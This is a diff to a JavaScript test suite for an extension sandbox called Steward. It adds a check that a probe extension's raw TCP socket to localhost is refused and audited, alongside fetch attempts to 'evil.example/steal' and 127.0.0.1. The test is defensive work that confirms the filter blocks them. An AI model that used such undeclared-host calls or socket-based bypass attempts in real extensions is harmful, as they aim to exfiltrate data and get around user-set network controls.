@@ -128,8 +128,17 @@ describe("bundled extensions", () => {
         permissions: { network: [declared], workspace: "none" },
         tools: [{ name: "probe", description: "fetch some URLs", inputSchema: { type: "object", properties: {} } }]
       },
-      `export async function probe() {
+      `import { connect } from "cloudflare:sockets";
+      export async function probe() {
         const out = {};
+        // A raw TCP socket must not get around the filter either.
+        try {
+          const socket = connect("127.0.0.1:1");
+          await socket.opened;
+          const read = await socket.readable.getReader().read();
+          out.socket = read.done ? "closed by steward" : "got data";
+        }
+        catch (e) { out.socket = "refused " + e.message; }
         for (const url of ${JSON.stringify([`http://${declared}/v1/latest?base=EUR&symbols=USD`, "https://evil.example/steal", `http://127.0.0.1:1/`])}) {
           try { const r = await fetch(url); out[url] = r.status + " " + (await r.text()).slice(0, 120); }
           catch (e) { out[url] = "threw " + e.message; }
@@ -149,11 +158,14 @@ describe("bundled extensions", () => {
     expect(value[`http://${declared}/v1/latest?base=EUR&symbols=USD`]).toMatch(/^200 .*"USD":1.25/);
     expect(value["https://evil.example/steal"]).toMatch(/^403 steward: request refused: evil.example is not a host this extension declared/);
     expect(value["http://127.0.0.1:1/"]).toMatch(/^403 steward: request refused: 127.0.0.1:1 is not a host/);
+    // The socket reaches Steward's filter (not the network), which closes it and audits it.
+    expect(value.socket).toMatch(/^(closed by steward|refused )/);
     const rows = await assistant.getAudit(10);
     const refused = rows.filter((r) => r.outcome === "blocked");
     expect(refused.map((r) => [r.tool, r.tier, r.detail.replace(/\(.*\)/, "")]).sort()).toEqual([
       ["ext_leaky_probe", 3, "network request refused: 127.0.0.1:1 is not a host this extension declared "],
-      ["ext_leaky_probe", 3, "network request refused: evil.example is not a host this extension declared "]
+      ["ext_leaky_probe", 3, "network request refused: evil.example is not a host this extension declared "],
+      ["ext_leaky_probe", 3, "network request refused: raw TCP sockets are refused: extensions reach their declared hosts with fetch over https only"]
     ]);
     expect(rows.find((r) => r.outcome === "ok")).toMatchObject({ tool: "ext_leaky_probe", tier: 3 });
   });
